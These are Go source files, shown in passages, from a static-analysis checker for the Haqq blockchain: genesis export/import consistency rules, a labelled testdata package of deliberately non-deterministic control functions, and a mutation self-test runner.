		r.Check(okE, "R3", fnID(ex)+"#through-module-manager", P.Pos(fnPos(ex)), "exports through mm.ExportGenesisForModules", "the app export no longer goes through the module manager")
	} else {
		r.Bad("R3", "anchor/ExportAppStateAndValidators", "", "not found")
	}
	_ = strings.Join
}

// isRuntimeReach: fn is reachable in consensus scope through something other than the module's InitGenesis
// (setters are typically shared by InitGenesis and message handlers).
func isRuntimeReach(sc *Scopes, fn *ssa.Function, initF *ssa.Function) bool {
	for n := sc.S.Nodes[fn]; n != nil; n = sc.S.Nodes[n.Parent] {
		if n.Fn == initF {
			return false
		}
		if n.Parent == nil {
			break
		}
	}
	return true
}

// directGenesisField: v is (a load of) a field of the module's GenesisState, possibly a sub-field.
func directGenesisField(v ssa.Value, typesPkg string) (string, string, bool) {
	found, fld := false, ""
	backSlice(v).Any(func(x ssa.Value) bool {
		if fa, ok := x.(*ssa.FieldAddr); ok {
			if sn, f, ok := fieldOfAddr(fa); ok && sn == "GenesisState" && pathHasSuffix(namedPkgPath(fa.X.Type()), typesPkg) {
				found, fld = true, f
			}
		}
		if fv, ok := x.(*ssa.Field); ok {
			if sn, f, ok := fieldOfValue(fv); ok && sn == "GenesisState" && pathHasSuffix(namedPkgPath(fv.X.Type()), typesPkg) {
				found, fld = true, f
			}
		}
		return false
	})
	return "GenesisState", fld, found
}

func lastBlockOf(f *ssa.Function) *ssa.BasicBlock {
	for i := len(f.Blocks) - 1; i >= 0; i-- {
		if _, ok := f.Blocks[i].Instrs[len(f.Blocks[i].Instrs)-1].(*ssa.Return); ok && f.Blocks[i] != f.Recover {
			return f.Blocks[i]
		}
	}
	return f.Blocks[len(f.Blocks)-1]
}

// storeReachesAllReturnsAfterAssert: every path from the block of st to a return that appends an account passes
// through the store's block — approximated by: no path from the function entry reaches an `append` without the store.
func storeReachesAllReturnsAfterAssert(f *ssa.Function, st *ssa.Store) bool {
	isAppend := func(in ssa.Instruction) bool {
		c, ok := in.(*ssa.Call)
		if !ok {
			return false
		}
		b, ok := c.Call.Value.(*ssa.Builtin)
		return ok && b.Name() == "append"
	}
	w := PathQuery{Fn: f, Block: func(in ssa.Instruction) bool { return in == ssa.Instruction(st) }, Target: isAppend}.Search()
	return w == nil
}

// innermostLoopExcluding: the innermost loop that contains header h other than h's own loop.
func innermostLoopExcluding(h *ssa.BasicBlock) *ssa.BasicBlock {
	var best *ssa.BasicBlock
	bestSize := 0
	for _, o := range h.Parent().Blocks {
		if o == h || !isLoopHeader(o) {
			continue
		}
		body := loopBody(o)
		if body[h] && (best == nil || len(body) < bestSize) {
			best, bestSize = o, len(body)
		}
	}
	return best
}

// importRewriteExceptions: writes into the imported document that cannot change the stored state (one reason each).
var importRewriteExceptions = map[string]string{
	"x/ucdao#GenesisState.Balances": "SanitizeGenesisBalances only reorders the list (sort by address); the ledger is a keyed store, so the order in which balances are set is immaterial and the export iterates in key order anyway",
	"x/epochs#EpochInfo.StartTime":  "defaults an unset (zero) start time to the block time, only on the zero edge; a document exported from a chain carries the defaulted value, so a round trip does not pass that edge",
}

// isProjectionOf: v is obtained from root only by loads, field / element selection, range extraction and phis
// (a copy of a part of root), not by computation.
func isProjectionOf(v ssa.Value, root ssa.Value, depth int) bool {
	if depth > 12 {
		return false
	}
	if v == root {
		return true
	}
	switch x := v.(type) {
	case *ssa.UnOp:
		if x.Op == token.MUL {
			if al, ok := x.X.(*ssa.Alloc); ok {
				for _, wv := range allocWriters(al) {
					if isProjectionOf(wv, root, depth+1) {
						return true
					}
				}
				return false
			}
			return isProjectionOf(x.X, root, depth+1)
		}
	case *ssa.FieldAddr:
		return isProjectionOf(x.X, root, depth+1)
	case *ssa.Field:
		return isProjectionOf(x.X, root, depth+1)
	case *ssa.IndexAddr:
		return isProjectionOf(x.X, root, depth+1)
	case *ssa.Index:
		return isProjectionOf(x.X, root, depth+1)
	case *ssa.Extract:
		return isProjectionOf(x.Tuple, root, depth+1)
	case *ssa.Next:
		return isProjectionOf(x.Iter, root, depth+1)
	case *ssa.Range:
		return isProjectionOf(x.X, root, depth+1)
	case *ssa.Phi:
		for _, e := range x.Edges {
			if isProjectionOf(e, root, depth+1) {
				return true
			}
		}
	case *ssa.Alloc:
		for _, wv := range allocWriters(x) {
			if isProjectionOf(wv, root, depth+1) {
				return true
			}
		}
	}
	return false
}

// c19DerivedIndexes (C19 R7): stores that are not exported but rebuilt by InitGenesis are maintained at run time
// by the same rule the import applies.
func c19DerivedIndexes(r *Run) {
	P := r.P
	r.Rule("R7", "FLOW/OWN.derived-indexes-match-the-import: stores that are not part of the exported document but rebuilt from it must hold, at run time, exactly what the import would rebuild. (a) erc20: InitGenesis rebuilds the denom map from pair.Denom and the address map from the pair's contract address — every run-time SetDenomMap / SetERC20Map is keyed by that same field of a TokenPair (an extra alias entry is dropped by a restart from genesis); (b) ucdao: the holders index is written only by setHoldersIndex, the function the import uses (C12 R1/R4, imported)")
	n := 0
	for _, fn := range P.Funcs {
		if !isHaqqPath(fnPkgPath(fn)) || isTestSupport(P, fn) || fn.Synthetic != "" || isGeneratedFile(P.FileOf(fnPos(outermost(fn)))) {
			continue
		}
		eachCall(fn, func(ci CallInfo) {
			if !(ci.Name == "SetDenomMap" || ci.Name == "SetERC20Map") || !pathHasSuffix(ci.PkgPath, "x/erc20/keeper") {
				return
			}
			n++
			key := argN(ci.Instr, 1)
			sl := backSlice(key)
			ok := false
			if ci.Name == "SetDenomMap" {
				ok = sl.HasField("TokenPair", "Denom")
			} else {
				ok = sl.HasField("TokenPair", "Erc20Address") || sl.HasCall(func(g CallInfo) bool { return g.Name == "GetERC20Contract" && g.Recv == "TokenPair" })
			}
			r.Check(ok, "R7", fmt.Sprintf("%s#%s-key", fnID(fn), ci.Name), P.Pos(instrPos(ci.Instr)), "keyed by the pair's own field, as the import does",
				"a run-time entry of the erc20 lookup maps is keyed by something other than the pair's denomination / contract address: InitGenesis rebuilds these maps from the pairs alone, so the entry disappears on an export/import cycle (a lookup that succeeded before the restart fails after it)")
		})
	}
	r.Floor("R7", "SetDenomMap/SetERC20Map call sites", n, 6)
	// the duplicate check of a registration is keyed like the map it protects
	if rc, ok := P.FnOK("(x/erc20/keeper.Keeper).RegisterCoin"); ok {
		okKey, nChk := true, 0
		eachCall(rc, func(ci CallInfo) {
			if ci.Name != "IsDenomRegistered" {
				return
			}
			nChk++
			a := ci.Instr.Common().Args
			if !backSlice(a[len(a)-1]).HasField("Metadata", "Base") {
				okKey = false
			}
		})
		r.Check(okKey && nChk >= 1, "R7", fnID(rc)+"#duplicate-check-keyed-by-Base", P.Pos(fnPos(rc)), "IsDenomRegistered(metadata.Base)",
			"RegisterCoin looks the coin up under something other than its base denomination, the key the denom map is written with: the check never hits, a coin can be registered twice, the last registration wins on the running chain while InitGenesis rebuilds the map in pair-id order — after an export/import cycle the denomination resolves to the other pair (and the exported erc20 genesis fails its own validation)")
	} else {
		r.Bad("R7", "anchor/RegisterCoin", "", "not found")
	}
	r.Import("R7/C12.", []string{"R1", "R4"}, runC12)
}

// c19ExportShape (C19 R8): what the export writes can be imported again; store keys are decoded with the module's own functions.
func c19ExportShape(r *Run) {
	c19ForeignStrings(r)
	P := r.P
	r.Rule("R10", "PATH.hand-jailing-leaves-the-power-index: the zero-height export jails the validators that are not on the allow-list by setting Validator.Jailed itself (not through the keeper's jail routine, which also removes the record from the power index); every such store of true is preceded on every path by DeleteValidatorByPowerIndex for that validator — the very next step, ApplyAndReturnValidatorSetUpdates, walks the power index and panics on a jailed record, so no genesis document is produced")
	{
		n := 0
		for _, fn := range P.Funcs {
			if !isHaqqPath(fnPkgPath(fn)) || isTestSupport(P, fn) || fn.Synthetic != "" {
				continue
			}
			outer := outermost(fn)
			if outer.Name() != "prepForZeroHeightGenesis" {
				continue
			}
			eachInstr(fn, func(in ssa.Instruction) {
				st, ok := in.(*ssa.Store)
				if !ok {
					return
				}
				sn, f, ok := fieldOfAddr(st.Addr)
				if !ok || sn != "Validator" || f != "Jailed" {
					return
				}
				if c, isC := st.Val.(*ssa.Const); !isC || !constBool(c) {
					return
				}
				n++
				w := PathQuery{Fn: fn, Block: isCallMatching(func(g CallInfo) bool { return g.Name == "DeleteValidatorByPowerIndex" }),
					Target: func(x ssa.Instruction) bool { return x == in }}.Search()
				r.Check(w == nil, "R10", fmt.Sprintf("%s#jailed-by-hand-%d-leaves-the-power-index", fnID(fn), n), P.Pos(instrPos(in)), "preceded by DeleteValidatorByPowerIndex on every path",
					"the zero-height export sets Validator.Jailed = true and stores the record without removing it from the power index: `export --for-zero-height --jail-allowed-addrs <genesis validator>` on a chain with a second bonded validator panics in ApplyAndReturnValidatorSetUpdates ('should never retrieve a jailed validator from the power store') — there is no exported document to re-import", P.witness(w)...)
			})
		}
		r.Floor("R10", "stores of Validator.Jailed = true in the zero-height preparation", n, 1)
	}
	r.Rule("R8", "PATH.export-is-importable: (a) the EVM module's ExportGenesis lists an account only over the edge on which its address is 20 bytes long — the bank keeper creates an EthAccount for any recipient address length, EthAddress() crops to the last 20 bytes, and InitGenesis looks the cropped address up and panics ('account not found'): one transfer to a 32-byte address made every later export un-importable; (b) the zero-height export decodes validator store keys with the staking module's key function, never by slicing iter.Key() at a fixed offset (keys are length-prefixed since SDK 0.43: the hand-sliced address is 21 bytes and no validator is ever found)")
	if eg, ok := P.FnOK("x/evm.ExportGenesis"); ok {
		bad := ""
		n := 0
		for _, f := range withAnon(eg) {
			eq, _ := condEdges(f, func(x, y ssa.Value) bool {
				c, ok := stripValue(x).(*ssa.Call)
				if !ok {
					return false
				}
				b, ok := c.Call.Value.(*ssa.Builtin)
				if !ok || b.Name() != "len" {
					return false
				}
				nn, okc := constInt(y)
				return okc && nn == 20 && backSlice(c.Call.Args[0]).HasCall(func(g CallInfo) bool { return g.Name == "GetAddress" })
			})
			eachInstr(f, func(in ssa.Instruction) {
				c, ok := in.(*ssa.Call)
				if !ok {
					return
				}
				b, ok := c.Call.Value.(*ssa.Builtin)
				if !ok || b.Name() != "append" || !strings.Contains(c.Type().String(), "GenesisAccount") {
					return
				}
				n++
				if w := (PathQuery{Fn: f, Target: func(x ssa.Instruction) bool { return x == in }, DelEdge: edgeSet(eq)}).Search(); w != nil || len(eq) == 0 {
					bad = P.Pos(instrPos(in))
				}
			})
		}
		r.Check(bad == "" && n >= 1, "R8", fnID(eg)+"#lists-20-byte-accounts-only", P.Pos(fnPos(eg)), "a genesis account is appended only where len(GetAddress()) == 20",
			"the EVM export lists accounts whose stored address is not 20 bytes long under the cropped address (at "+bad+"): the import looks that address up, finds no account and panics — the chain's own export cannot be imported")
	} else {
		r.Bad("R8", "anchor/x/evm.ExportGenesis", "", "not found")
	}
	nK := 0
	for _, fn := range P.Funcs {
		if fnPkgPath(fn) != haqqMod+"/app" || isTestSupport(P, fn) || fn.Synthetic != "" || !strings.HasSuffix(P.FileOf(fnPos(outermost(fn))), "export.go") {
			continue
		}
		eachInstr(fn, func(in ssa.Instruction) {
			sl, ok := in.(*ssa.Slice)
			if !ok {
				return
			}
			c, ok := stripValue(sl.X).(*ssa.Call)
			if !ok || callInfo(c).Name != "Key" {
				return
			}
			nK++
			r.Bad("R8", fnID(fn)+"#store-key-sliced-by-hand", P.Pos(instrPos(in)), "the export decodes a store key by slicing iter.Key() at a fixed offset: with length-prefixed keys the result is not the address, the lookup fails and the zero-height export aborts on every chain")
		})
		if len(findCalls(fn, func(ci CallInfo) bool { return ci.Name == "AddressFromValidatorsKey" })) > 0 {
			nK++
			r.OK("R8", fnID(fn)+"#store-key-decoded-by-module", P.Pos(fnPos(fn)), "validator keys decoded with stakingtypes.AddressFromValidatorsKey")
		}
	}
	r.Floor("R8", "store-key decodings in app/export.go", nK, 1)
}

// c19ForeignStrings (C19 R9): strings a contract controls are made valid UTF-8 before they enter exported state.
func c19ForeignStrings(r *Run) {
	P := r.P
	r.Rule("R9", "FLOW.contract-controlled-strings-are-valid-utf8: the binary stores keep arbitrary bytes, the exported genesis is JSON and its encoder replaces invalid UTF-8 with U+FFFD — the importing chain then stores other bytes than the exporting one held. The strings of a registered ERC20 (name(), symbol()) are whatever the contract returns; wherever CreateCoinMetadata stores one of them into the bank metadata it passes a sanitiser first (SanitizeERC20Name, strings.ToValidUTF8)")
	fn, ok := P.FnOK("(x/erc20/keeper.Keeper).CreateCoinMetadata")
	if !ok {
		r.Bad("R9", "anchor/CreateCoinMetadata", "", "not found")
		return
	}
	n := 0
	seen := map[string]int{}
	eachInstr(fn, func(in ssa.Instruction) {
		st, ok := in.(*ssa.Store)
		if !ok {
			return
		}
		sn, f, ok := fieldOfAddr(st.Addr)
		if !ok || !(sn == "Metadata" || sn == "DenomUnit") {
			return
		}
		if b, isB := st.Val.Type().Underlying().(*types.Basic); !isB || b.Kind() != types.String {
			return
		}
		sl := backSlice(st.Val)
		src := ""
		for _, ff := range []string{"Name", "Symbol"} {
			if sl.HasField("ERC20Data", ff) {
				src = ff
			}
		}
		if src == "" {
			return
		}
		n++
		seen[sn+"."+f]++
		okSan := sl.HasCall(func(g CallInfo) bool { return g.Name == "SanitizeERC20Name" || g.Name == "ToValidUTF8" })
		r.Check(okSan, "R9", fmt.Sprintf("%s#%s.%s-%d-sanitised", fnID(fn), sn, f, seen[sn+"."+f]), P.Pos(instrPos(in)), "the contract's "+src+" passes a sanitiser",
			"the contract-controlled string ERC20Data."+src+" is stored into "+sn+"."+f+" as returned: a symbol with invalid UTF-8 bytes is exported as U+FFFD and re-imported as other bytes than the exporting chain holds (metadata differs after export → InitGenesis)")
	})
	r.Floor("R9", "contract strings stored into bank metadata", n, 2)
}
