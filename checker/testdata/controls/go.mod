module github.com/haqq-network/haqq/verifcontrols

go 1.22
