// Package verifcontrols is NOT part of Haqq. It is the positive-control input of the C01
// determinism lint: every expected-zero detector (no clock read, no goroutine, no global
// write, no float, no order-dependent map range in consensus scope) must fire on the
// function below that carries its construct, and must stay silent on the clean ones, on
// every run of the check. A detector that goes silent here makes the check fail as broken.
package verifcontrols

import (
	"math/big"
	"math/rand"
	"os"
	"runtime"
	"sort"
	"sync"
	"time"
)

var counter int
var registry = map[string]int{}
var mu sync.Mutex

func CtlMapRangeUnsorted(m map[string]int) []string {
	var out []string
	for k := range m {
		out = append(out, k)
	}
	return out
}

func CtlMapRangeFirstWins(m map[string]int) string {
	for k, v := range m {
		if v > 0 {
			return k
		}
	}
	return ""
}

func CtlMapRangeSorted(m map[string]int) []string {
	var out []string
	for k := range m {
		out = append(out, k)
	}
	sort.Strings(out)
	return out
}

func CtlMapRangeToMap(m map[string]int) map[string]bool {
	out := map[string]bool{}
	for k := range m {
		out[k] = true
	}
	return out
}

func CtlClock() int64 { return time.Now().Unix() }

func CtlRand() int { return rand.Int() }

func CtlNumCPU() int { return runtime.NumCPU() }

func CtlEnv() string { return os.Getenv("HOME") }

func CtlGo(f func()) { go f() }

func CtlChan(c chan int) int {
	c <- 1
	return <-c
}

func CtlMutex() {
	mu.Lock()
	defer mu.Unlock()
}

func CtlGlobalWrite() {
	counter++
	registry["a"] = 1
}

func CtlFloat(x int64) int64 { return int64(float64(x) * 0.1) }

func CtlClean(a, b int64) int64 {
	if a > b {
		return a - b
	}
	return a + b
}

// ---- C20 R1 controls: process-local memory written from "consensus" code ----

type Keeper struct {
	n     int
	cache map[string]int
	seen  *sync.Map
}

func (k *Keeper) CtlFieldWrite() { k.n++ }

func (k Keeper) CtlMapFieldWrite(a string) { k.cache[a] = 1 }

func (k Keeper) CtlSyncMapStore(a string) { k.seen.Store(a, 1) }

// value receiver, local copy only: not shared
func (k Keeper) CtlLocalCopy() int {
	k.n = 5
	return k.n
}

// ---- C01 R11 controls: calendar queries on a local-zone time ----

func CtlLocalTimeYear(ts int64) int { return time.UnixMilli(ts).Year() }

func CtlLocalTimeFormat(ts int64) string {
	t := time.Unix(ts, 0)
	return t.Format(time.RFC3339)
}

func CtlUTCTimeYear(ts int64) int { return time.Unix(ts, 0).UTC().Year() }

func CtlTimestampOnly(ts int64) int64 { return time.Unix(ts, 0).Add(time.Hour).Unix() }

// CtlMapRangeSortedByPrefix: collect-then-sort, but the comparator looks at a prefix of each key
// only: keys that share the prefix keep their map-iteration order (must be reported).
func CtlMapRangeSortedByPrefix(m map[[20]byte]int) [][20]byte {
	var keys [][20]byte
	for k := range m {
		keys = append(keys, k)
	}
	sort.Slice(keys, func(i, j int) bool { return string(keys[i][:8]) < string(keys[j][:8]) })
	return keys
}

// CtlMapRangeSortedWhole: the comparator orders whole keys (must stay silent).
func CtlMapRangeSortedWhole(m map[[20]byte]int) [][20]byte {
	var keys [][20]byte
	for k := range m {
		keys = append(keys, k)
	}
	sort.Slice(keys, func(i, j int) bool { return string(keys[i][:]) < string(keys[j][:]) })
	return keys
}

// CtlMapFieldDelete: entries removed from a map held by a keeper-like struct (must be reported).
func (k Keeper) CtlMapFieldDelete(a string) { delete(k.cache, a) }

// CtlMapFieldPassed: the held map is handed to a helper that writes into it (must be reported).
func (k Keeper) CtlMapFieldPassed(a string) { ctlFill(k.cache, a) }

func ctlFill(m map[string]int, a string) { m[a] = 2 }

// CtlLocalMapPassed: a map made in the function is handed to the same helper (must stay silent).
func (k Keeper) CtlLocalMapPassed(a string) int {
	m := map[string]int{}
	ctlFill(m, a)
	return m[a]
}

// CtlGlobalMapDelete / CtlGlobalMapPassed: a package-level map emptied / handed to a writer (must be reported).
func CtlGlobalMapDelete(a string) { delete(registry, a) }

func CtlGlobalMapPassed(a string) { ctlFill(registryInts, a) }

var registryInts = map[string]int{}

// ---- C01 R12 controls: writes through aliases of package-level memory ----

var ctlBigOne = big.NewInt(1)

func ctlBigMax(a, b *big.Int) *big.Int {
	if a.Cmp(b) < 0 {
		return b
	}
	return a
}

// CtlSharedNumberMutated: the result of the max helper may be the shared constant; Add overwrites it (must be reported).
func CtlSharedNumberMutated(x, y *big.Int) *big.Int {
	d := ctlBigMax(x, ctlBigOne)
	return d.Add(y, d)
}

// CtlFreshNumberMutated: the same computation into a fresh receiver (must stay silent).
func CtlFreshNumberMutated(x, y *big.Int) *big.Int {
	d := ctlBigMax(x, ctlBigOne)
	return new(big.Int).Add(y, d)
}

var ctlPrefixRoomy = make([]byte, 1, 21)

var ctlPrefixTight = []byte{0x01}

// CtlAppendRoomy: append to a package-level slice with spare capacity writes the shared array (must be reported).
func CtlAppendRoomy(a []byte) []byte { return append(ctlPrefixRoomy, a...) }

// CtlAppendTight: len == cap, append reallocates (must stay silent).
func CtlAppendTight(a []byte) []byte { return append(ctlPrefixTight, a...) }
