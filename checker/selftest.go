package main

import (
	"bytes"
	"encoding/json"
	"fmt"
	"os"
	"os/exec"
	"path/filepath"
	"regexp"
	"sort"
	"strings"
	"sync"
)

// Mutant: a single behaviour-breaking edit that still compiles; the owning rule must report a
// NEW violated obligation whose key contains Expect.
type Mutant struct {
	ID       string `json:"id"`
	Property string `json:"property"`
	File     string `json:"file"`
	Find     string `json:"find"`
	Replace  string `json:"replace"`
	Expect   string `json:"expect"`
	Note     string `json:"note"`
	Count    int    `json:"count,omitempty"` // how often the anchor text occurs (default 1); the first occurrence is replaced
	Tier     string `json:"tier,omitempty"` // "whole": evaluated with the whole-program rules (HAQQCHECK_WHOLE=1)
	Extra    []struct {
		Find    string `json:"find"`
		Replace string `json:"replace"`
	} `json:"extra,omitempty"`
}

type mutantResult struct {
	M      Mutant
	Status string // fired | MISSED | not-applicable | build-error | fired-elsewhere
	New    []string
	Detail string
}

var violatedLine = regexp.MustCompile(`(?m)^\s+violated (\S+)`)

func loadMutants(verif string) ([]Mutant, error) {
	b, err := os.ReadFile(filepath.Join(verif, "mutants.json"))
	if err != nil {
		return nil, err
	}
	var ms []Mutant
	if err := json.Unmarshal(b, &ms); err != nil {
		return nil, err
	}
	return ms, nil
}

func violatedKeys(self, repo, verif, prop string, whole ...bool) ([]string, string, error) {
	cmd := exec.Command(self, "-property", prop, "-repo", repo, "-verif", verif)
	cmd.Env = append(os.Environ(), "GOFLAGS=-mod=mod", "GOPROXY=off", "GOSUMDB=off", "GOTOOLCHAIN=local", "GOWORK=off")
	if len(whole) > 0 && whole[0] {
		cmd.Env = append(cmd.Env, "HAQQCHECK_WHOLE=1")
	}
	var out bytes.Buffer
	cmd.Stdout, cmd.Stderr = &out, &out
	err := cmd.Run()
	s := out.String()
	if strings.Contains(s, "ANALYSER-FAILURE") {
		return nil, s, fmt.Errorf("analyser failure")
	}
	_ = err
	var keys []string
	for _, m := range violatedLine.FindAllStringSubmatch(s, -1) {
		keys = append(keys, m[1])
	}
	sort.Strings(keys)
	return keys, s, nil
}

// runMutants applies each mutant to its own scratch copy of repo (removed afterwards) and reports.
func runMutants(repo, verif string, ms []Mutant, parallel int) []mutantResult {
	self, _ := os.Executable()
	base := fmt.Sprintf("/tmp/haqq-mut.%d", os.Getpid())
	os.MkdirAll(base, 0o755)
	defer os.RemoveAll(base)
	// temp verif dir: known findings only (evidence of the selftest runs must not overwrite real evidence)
	tv := filepath.Join(base, "verif")
	os.MkdirAll(filepath.Join(tv, "evidence"), 0o755)
	if b, err := os.ReadFile(filepath.Join(verif, "known_findings.json")); err == nil {
		os.WriteFile(filepath.Join(tv, "known_findings.json"), b, 0o644)
	}
	// baseline per property on the unmodified tree
	baseKeys := map[string]map[string]bool{}
	props := map[string]bool{}
	for _, m := range ms {
		props[m.Property] = true
		if m.Tier == "whole" {
			props[m.Property+"|whole"] = true
		}
	}
	for p := range props {
		keys, out, err := violatedKeys(self, repo, tv, strings.TrimSuffix(p, "|whole"), strings.HasSuffix(p, "|whole"))
		if err != nil {
			fmt.Println("selftest: baseline run failed for", p, "\n", out)
		}
		baseKeys[p] = map[string]bool{}
		for _, k := range keys {
			baseKeys[p][k] = true
		}
	}
	results := make([]mutantResult, len(ms))
	sem := make(chan struct{}, parallel)
	var wg sync.WaitGroup
	for i, m := range ms {
		wg.Add(1)
		go func(i int, m Mutant) {
			defer wg.Done()
			sem <- struct{}{}
			defer func() { <-sem }()
			res := mutantResult{M: m}
			defer func() { results[i] = res }()
			src := filepath.Join(repo, m.File)
			b, err := os.ReadFile(src)
			if err != nil {
				res.Status, res.Detail = "not-applicable", "file missing"
				return
			}
			wantN := 1
			if m.Count > 0 {
				wantN = m.Count
			}
			if strings.Count(string(b), m.Find) != wantN {
				res.Status, res.Detail = "not-applicable", fmt.Sprintf("anchor text occurs %d times", strings.Count(string(b), m.Find))
				return
			}
			dir := filepath.Join(base, m.ID)
			if out, err := exec.Command("rsync", "-a", "--exclude", ".git", repo+"/", dir+"/").CombinedOutput(); err != nil {
				res.Status, res.Detail = "build-error", "rsync: "+string(out)
				return
			}
			defer os.RemoveAll(dir)
			nb := strings.Replace(string(b), m.Find, m.Replace, 1)
			for _, x := range m.Extra {
				if strings.Count(nb, x.Find) < 1 {
					res.Status, res.Detail = "not-applicable", "extra anchor missing"
					return
				}
				nb = strings.Replace(nb, x.Find, x.Replace, 1)
			}
			if err := os.WriteFile(filepath.Join(dir, m.File), []byte(nb), 0o644); err != nil {
				res.Status, res.Detail = "build-error", err.Error()
				return
			}
			tvm := filepath.Join(base, "verif-"+m.ID)
			os.MkdirAll(filepath.Join(tvm, "evidence"), 0o755)
			if kb, err := os.ReadFile(filepath.Join(verif, "known_findings.json")); err == nil {
				os.WriteFile(filepath.Join(tvm, "known_findings.json"), kb, 0o644)
			}
			defer os.RemoveAll(tvm)
			bk := m.Property
			if m.Tier == "whole" {
				bk += "|whole"
			}
			keys, out, err := violatedKeys(self, dir, tvm, m.Property, m.Tier == "whole")
			if err != nil {
				res.Status = "build-error"
				if i := strings.Index(out, "ANALYSER-FAILURE"); i >= 0 {
					res.Detail = firstLines(out[i:], 6)
				}
				return
			}
			for _, k := range keys {
				if !baseKeys[bk][k] {
					res.New = append(res.New, k)
				}
			}
			switch {
			case len(res.New) == 0:
				res.Status = "MISSED"
			case m.Expect == "":
				res.Status = "fired"
			default:
				res.Status = "fired-elsewhere"
				for _, k := range res.New {
					if strings.Contains(k, m.Expect) {
						res.Status = "fired"
					}
				}
			}
		}(i, m)
	}
	wg.Wait()
	return results
}

func firstLines(s string, n int) string {
	l := strings.Split(s, "\n")
	if len(l) > n {
		l = l[:n]
	}
	return strings.Join(l, " | ")
}

func runSelftest(repo, verif, prop, mutant string, verbose bool) int {
	ms, err := loadMutants(verif)
	if err != nil {
		fmt.Println("selftest: cannot load mutants.json:", err)
		return 2
	}
	var sel []Mutant
	for _, m := range ms {
		if prop != "" && prop != "all" && m.Property != prop {
			continue
		}
		if mutant != "" && m.ID != mutant {
			continue
		}
		sel = append(sel, m)
	}
	res := runMutants(repo, verif, sel, 6)
	bad := 0
	counts := map[string]int{}
	for _, r := range res {
		counts[r.Status]++
		if r.Status == "MISSED" || r.Status == "build-error" || r.Status == "fired-elsewhere" {
			bad++
		}
		if verbose {
			fmt.Printf("%-16s %-4s %-34s %s %s\n", r.Status, r.M.Property, r.M.ID, strings.Join(r.New, ","), r.Detail)
		}
	}
	fmt.Printf("selftest: %d mutants: %v\n", len(res), counts)
	if bad > 0 {
		return 1
	}
	return 0
}

// thoroughExtras: the thorough tier additionally (1) re-checks the property on the tree as built for
// other configurations (GOARCH=arm64; -tags netgo,ledger) and (2) runs the mutant self-test of the property.
func thoroughExtras(r *Run, pd *propDef, repo, verif string) {
	// (1) other build configurations: the set of violated obligations must be the same
	self, _ := os.Executable()
	baseViol := map[string]bool{}
	for _, o := range r.Obls {
		if o.Status == "violated" {
			baseViol[o.Key] = true
		}
	}
	if os.Getenv("HAQQCHECK_NESTED") == "" {
		buildConstraintInventory(r, repo)
		for _, cfg := range []struct{ name, goarch, tags string }{{"tags=netgo,ledger", "", "netgo,ledger"}} {
			tv, _ := os.MkdirTemp("", "haqqcheck-cfg")
			os.MkdirAll(filepath.Join(tv, "evidence"), 0o755)
			if kb, err := os.ReadFile(filepath.Join(verif, "known_findings.json")); err == nil {
				os.WriteFile(filepath.Join(tv, "known_findings.json"), kb, 0o644)
			}
			cmd := exec.Command(self, "-property", pd.ID, "-repo", repo, "-verif", tv)
			cmd.Env = append(os.Environ(), "HAQQCHECK_NESTED=1", "HAQQCHECK_TAGS="+cfg.tags)
			if cfg.goarch != "" {
				cmd.Env = append(cmd.Env, "GOARCH="+cfg.goarch, "CGO_ENABLED=0")
			}
			var out bytes.Buffer
			cmd.Stdout, cmd.Stderr = &out, &out
			cmd.Run()
			os.RemoveAll(tv)
			s := out.String()
			if strings.Contains(s, "ANALYSER-FAILURE") {
				r.Note("thorough: configuration %s could not be analysed: %s", cfg.name, firstLines(s[strings.Index(s, "ANALYSER-FAILURE"):], 3))
				continue
			}
			n := 0
			for _, m := range violatedLine.FindAllStringSubmatch(s, -1) {
				n++
				// known findings print as KNOWN-FINDING, not as violated; anything violated here that is not violated in the default build is reported
				if !baseViol[m[1]] {
					r.Bad("CFG", cfg.name+"/"+strings.TrimPrefix(m[1], pd.ID+"."), "", "obligation violated only under build configuration "+cfg.name)
				}
			}
			r.Count("thorough: obligations re-evaluated under "+cfg.name, 1)
			r.Note("thorough: %s re-analysed, %d violated obligations (same as default build unless listed)", cfg.name, n)
		}
		// (2) mutants of this property
		if ms, err := loadMutants(verif); err == nil {
			var sel []Mutant
			for _, m := range ms {
				if m.Property == pd.ID {
					sel = append(sel, m)
				}
			}
			if len(sel) > 0 {
				res := runMutants(repo, verif, sel, 6)
				fired, na := 0, 0
				for _, x := range res {
					switch x.Status {
					case "fired":
						fired++
					case "not-applicable":
						na++
					default:
						r.Selftest = append(r.Selftest, fmt.Sprintf("SELFTEST-MISS %s: %s %s", x.M.ID, x.Status, x.Detail))
					}
				}
				r.Selftest = append(r.Selftest, fmt.Sprintf("mutants of %s: fired %d of %d (%d not applicable)", pd.ID, fired, len(sel), na))
				r.Count("thorough: seeded mutants evaluated", len(sel))
			}
		}
	}
}

// buildConstraintInventory (thorough): the analysed configuration is the only one for consensus code.
// Other GOOS/GOARCH cannot be loaded in this sandbox (go-ethereum's secp256k1 needs cgo and there is
// no cross C compiler), so instead of re-analysing them the check establishes that no non-test Haqq
// file is excluded from, or conditionally included in, the default build — except the tabled
// rpc debug-trace pair, which is outside consensus scope.
func buildConstraintInventory(r *Run, repo string) {
	allowed := map[string]string{
		"rpc/namespaces/ethereum/debug/trace_fallback.go": "go<1.5 fallback of the rpc debug tracer (outside consensus scope)",
		"rpc/namespaces/ethereum/debug/trace.go":          "go1.5 variant of the rpc debug tracer (outside consensus scope)",
		"tests/e2e/utils.go":                              "e2e test helper package",
	}
	cmd := exec.Command("go", "list", "-f", "{{.Dir}}|{{range .IgnoredGoFiles}}{{.}} {{end}}|{{range .GoFiles}}{{.}} {{end}}{{range .CgoFiles}}{{.}} {{end}}", "./...")
	cmd.Dir = repo
	cmd.Env = append(os.Environ(), "GOFLAGS=-mod=mod", "GOPROXY=off", "GOSUMDB=off", "GOTOOLCHAIN=local", "GOWORK=off")
	out, err := cmd.Output()
	if err != nil {
		r.Fail("thorough: go list for the build-constraint inventory failed: %v", err)
		return
	}
	nFiles, nConstrained := 0, 0
	for _, line := range strings.Split(strings.TrimSpace(string(out)), "\n") {
		parts := strings.Split(line, "|")
		if len(parts) != 3 {
			continue
		}
		rel := strings.TrimPrefix(strings.TrimPrefix(parts[0], repo), "/")
		for _, f := range strings.Fields(parts[1]) {
			if strings.HasSuffix(f, "_test.go") {
				continue
			}
			key := filepath.ToSlash(filepath.Join(rel, f))
			nConstrained++
			_, ok := allowed[key]
			r.Check(ok, "CFG", "ignored-file/"+key, key, "tabled: "+allowed[key], "a non-test Go file is excluded from the analysed build configuration: code that other builds compile was not analysed")
		}
		for _, f := range strings.Fields(parts[2]) {
			nFiles++
			b, err := os.ReadFile(filepath.Join(parts[0], f))
			if err != nil {
